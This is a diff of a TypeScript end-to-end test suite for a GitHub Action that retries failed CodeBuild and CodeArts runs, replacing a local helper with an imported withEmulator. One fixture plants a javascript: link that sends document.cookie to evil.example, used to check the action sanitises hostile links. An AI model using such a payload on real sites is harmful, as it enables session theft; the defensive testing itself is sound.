@@ -1,4 +1,4 @@
-// End to end: bounded, honest, clean (action-interface.md, "Bounded, honest, clean"). A hung server, a hung
+// End to end: bounded, honest, clean (docs/contract.md, "Bounded, honest, clean"). A hung server, a hung
 // status read, SIGINT/SIGTERM in every phase, hostile API text, and sizes at GitHub's limits, against the
 // emulator through the bundled action. Every case has its own emulator so the slow ones (a real 30 s
 // request time-out) run concurrently.
@@ -11,26 +11,15 @@ import {
   errorLines,
   resultsOf,
   run,
-  startEmu,
   waitForCalls,
+  withEmulator,
   withoutMasks,
   type ActionRun,
-  type Emulator,
-  type ResultObject,
-  type Scenario
+  type ResultObject
 } from './helpers.js'
 import { SERVICES, WAIT, withEmu } from './service-cases.js'
 
 const CODEBUILD = { service: 'codebuild', 'project-name': 'integration-tests' }
-
-async function withScenario<T>(scenario: Scenario, body: (emu: Emulator) => Promise<T>): Promise<T> {
-  const emu = await startEmu(scenario)
-  try {
-    return await body(emu)
-  } finally {
-    await emu.close()
-  }
-}
 
 /** Runs the action and sends `signal` when `when` resolves; returns the run and the ms from signal to exit. */
 async function signalled(
@@ -74,7 +63,7 @@ describe('a server that accepts a request and never answers', () => {
   it.concurrent(
     'AWS: the first call hangs; after 30 s it counts as a network error and is sent again; one retry',
     async () => {
-      await withScenario(demoScenario(), async emu => {
+      await withEmulator(demoScenario(), async emu => {
         emu.inject('*', { hang: 1 })
         const result = await run(CODEBUILD, { env: awsEnv(emu), timeoutMs: 90_000 })
         expect(result.exitCode).toBe(0)
@@ -93,7 +82,7 @@ describe('a server that accepts a request and never answers', () => {
   it.concurrent(
     'AWS: the retry call hangs; the execution is read again before it is sent again; one retry',
     async () => {
-      await withScenario(demoScenario(), async emu => {
+      await withEmulator(demoScenario(), async emu => {
         emu.inject('RetryBuild', { hang: 1 })
         const result = await run(CODEBUILD, { env: awsEnv(emu), timeoutMs: 90_000 })
         expect(result.exitCode).toBe(0)
@@ -110,7 +99,7 @@ describe('a server that accepts a request and never answers', () => {
   it.concurrent(
     'CodeArts: the first call hangs; after 30 s it is sent again; one retry',
     async () => {
-      await withScenario(demoScenario(), async emu => {
+      await withEmulator(demoScenario(), async emu => {
         emu.inject('*', { hang: 1 })
         const result = await run(codeartsInputs(emu), { timeoutMs: 90_000 })
         expect(result.exitCode).toBe(0)
@@ -123,7 +112,7 @@ describe('a server that accepts a request and never answers', () => {
   )
 
   it.concurrent('a status read that hangs does not outlive timeout-minutes', async () => {
-    await withScenario(demoScenario(), async emu => {
+    await withEmulator(demoScenario(), async emu => {
       // Once the retry is in, every status read hangs.
       emu.onCall('RetryBuild', () => {
         emu.inject('BatchGetBuilds', { hang: 1000 })
@@ -142,7 +131,7 @@ describe('a server that accepts a request and never answers', () => {
 
 describe('cancellation keeps results', () => {
   it.concurrent('SIGINT during discovery: cancelled, nothing retried, no retry call', async () => {
-    await withScenario(demoScenario(), async emu => {
+    await withEmulator(demoScenario(), async emu => {
       emu.inject('ListBuildsForProject', { hang: 1 })
       const { result, exitMs } = await signalled(CODEBUILD, awsEnv(emu), () =>
         waitForCalls(emu, 'ListBuildsForProject')
@@ -157,7 +146,7 @@ describe('cancellation keeps results', () => {
   it.concurrent.each(['SIGINT', 'SIGTERM'] as const)(
     '%s during the retry call: an error that says the retry may have been applied, with the link',
     async signal => {
-      await withScenario(demoScenario(), async emu => {
+      await withEmulator(demoScenario(), async emu => {
         emu.inject('RetryBuild', { hang: 1 })
         const { result, exitMs } = await signalled(
           CODEBUILD,
@@ -201,7 +190,7 @@ describe('cancellation keeps results', () => {
     async (_what, extra) => {
       const n = 200
       const scenario = { ...scaledScenario(n), latencyMs: 40 }
-      await withScenario(scenario, async emu => {
+      await withEmulator(scenario, async emu => {
         let atSignal = -1
         let child: ChildProcess | undefined
         // Sent from inside the emulator as the 20th target's first call arrives: nothing can slip in between.
@@ -277,7 +266,7 @@ describe.each(SERVICES)('hostile API text: $service', c => {
         failedStage: INJECTION,
         ...(c.service === 'codebuild-batch' ? { failedGroup: INJECTION } : {})
       })
-      await withScenario(scenario, async emu => {
+      await withEmulator(scenario, async emu => {
         const result = await run({ ...c.inputs(emu), ...WAIT }, { env: c.env(emu), timeoutMs: 30_000 })
         expect(result.exitCode).toBe(1)
         expect(result.outputs.status).toBe('failed')
@@ -306,7 +295,7 @@ describe('links and error bodies from CodeArts', () => {
       r => r.id === DEMO_IDS.codeartsFailedRun
     )!
     failed.detailUrl = 'javascript:fetch("https://evil.example/?c="+document.cookie)'
-    await withScenario(scenario, async emu => {
+    await withEmulator(scenario, async emu => {
       const result = await run({ ...codeartsInputs(emu), region: 'cn-north-4' })
       expect(result.exitCode).toBe(0)
       expect(result.outputs['console-url']).toBe(
@@ -320,7 +309,7 @@ describe('links and error bodies from CodeArts', () => {
   it.concurrent.each(['errorCode', 'code', 'nested'] as const)(
     'a concurrency-limit answer in the %s form is backed off, then the retry goes through',
     async form => {
-      await withScenario(demoScenario(), async emu => {
+      await withEmulator(demoScenario(), async emu => {
         emu.inject('codearts:retry', {
           error: {
             code: 'DEVPIPE.00011169',
@@ -347,7 +336,7 @@ describe('links and error bodies from CodeArts', () => {
       { name: 'Build', status: 'COMPLETED' },
       { name: 'Scan', status: 'ASYNC_FAILED', jobs: [{ name: 'sast', status: 'ASYNC_FAILED' }] }
     ]
-    await withScenario(scenario, async emu => {
+    await withEmulator(scenario, async emu => {
       const result = await run(codeartsInputs(emu))
       expect(result.exitCode).toBe(0)
       expect(result.outputs.retried).toBe('true')
@@ -361,7 +350,7 @@ describe("GitHub's limits", () => {
     '2,000 targets that fail with 1,000-character messages: every output under its cap, results-file whole',
     async () => {
       const message = `AccessDenied: ${'m'.repeat(1100)}`
-      await withScenario(scaledScenario(2000), async emu => {
+      await withEmulator(scaledScenario(2000), async emu => {
         emu.inject('ListBuildsForProject', {
           error: { code: 'AccessDeniedException', message, status: 400, times: 2000 }
         })
@@ -390,7 +379,7 @@ describe("GitHub's limits", () => {
   )
 
   it.concurrent('a 3 MB failure message is cut: small log, outputs and summary', async () => {
-    await withScenario(demoScenario(), async emu => {
+    await withEmulator(demoScenario(), async emu => {
       emu.inject('ListBuildsForProject', {
         error: { code: 'AccessDeniedException', message: `denied ${'z'.repeat(3_000_000)}`, status: 400 }
       })
@@ -405,7 +394,7 @@ describe("GitHub's limits", () => {
   })
 
   it.concurrent('an endpoint with a password is refused before any call, and never printed', async () => {
-    await withScenario(demoScenario(), async emu => {
+    await withEmulator(demoScenario(), async emu => {
       const endpoint = emu.url.replace('http://', 'http://alice:hunter2@')
       const result = await run({ ...CODEBUILD, endpoint }, { env: awsEnv(emu) })
       expect(result.exitCode).toBe(1)
@@ -416,7 +405,7 @@ describe("GitHub's limits", () => {
   })
 
   it.concurrent('a summary file that cannot be written is a warning, not a failed step', async () => {
-    await withScenario(demoScenario(), async emu => {
+    await withEmulator(demoScenario(), async emu => {
       const result = await run(CODEBUILD, {
         env: { ...awsEnv(emu), GITHUB_STEP_SUMMARY: '/nonexistent-dir/summary' }
       })
